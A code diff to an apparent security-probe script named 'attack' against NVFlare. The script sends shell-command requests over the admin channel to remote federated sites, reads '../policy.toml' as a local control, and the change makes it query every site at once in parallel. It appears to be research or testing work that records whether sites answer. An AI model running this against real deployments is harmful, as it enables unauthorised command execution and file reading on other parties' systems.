@@ -5,12 +5,14 @@ What he is answered goes to OUT, one JSON a line.
 
 from __future__ import annotations
 
+import itertools
 import json
 import os
 import runpy
 import sys
 import threading
 import time
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
 
@@ -39,21 +41,26 @@ def attack(cell: Any) -> None:
         # That NVFlare's own processor would have told: here it is asked at home.
         own = ShellCommandProcessor().process(Message(SysCommandTopic.SHELL, "cat ../policy.toml"), None)
         note(target="", topic="control", code="", answer=str(own.body))
-        for target in TARGETS:
-            for asked in QUESTIONS:
-                silent = 0
-                for _ in range(120):  # a site that was cut off a moment ago comes back
-                    request = new_cell_message({}, Message(topic=SysCommandTopic.SHELL, body=asked))
-                    reply = cell.send_request(
-                        target=target, channel="admin", topic=SysCommandTopic.SHELL, request=request, timeout=3.0
-                    )
-                    code = str(reply.get_header(MessageHeaderKey.RETURN_CODE))
-                    silent += code == "timeout"
-                    if code not in ("target_unreachable", "comm_error", "timeout") or silent:
-                        break
-                    time.sleep(0.5)
-                answer = getattr(reply.payload, "body", reply.payload)
-                note(target=target, topic=asked, code=code, answer=str(answer))
+
+        def ask(target: str, asked: str) -> dict[str, str]:
+            silent = 0
+            for _ in range(120):  # a site that was cut off a moment ago comes back
+                request = new_cell_message({}, Message(topic=SysCommandTopic.SHELL, body=asked))
+                reply = cell.send_request(
+                    target=target, channel="admin", topic=SysCommandTopic.SHELL, request=request, timeout=3.0
+                )
+                code = str(reply.get_header(MessageHeaderKey.RETURN_CODE))
+                silent += code == "timeout"
+                if code not in ("target_unreachable", "comm_error", "timeout") or silent:
+                    break
+                time.sleep(0.5)
+            answer = getattr(reply.payload, "body", reply.payload)
+            return {"target": target, "topic": asked, "code": code, "answer": str(answer)}
+
+        pairs = list(itertools.product(TARGETS, QUESTIONS))
+        with ThreadPoolExecutor(len(pairs)) as pool:  # all at once: most are never answered
+            for said in pool.map(ask, *zip(*pairs, strict=True)):
+                note(**said)
         note(target="", topic="end", code="", answer="")
 
 
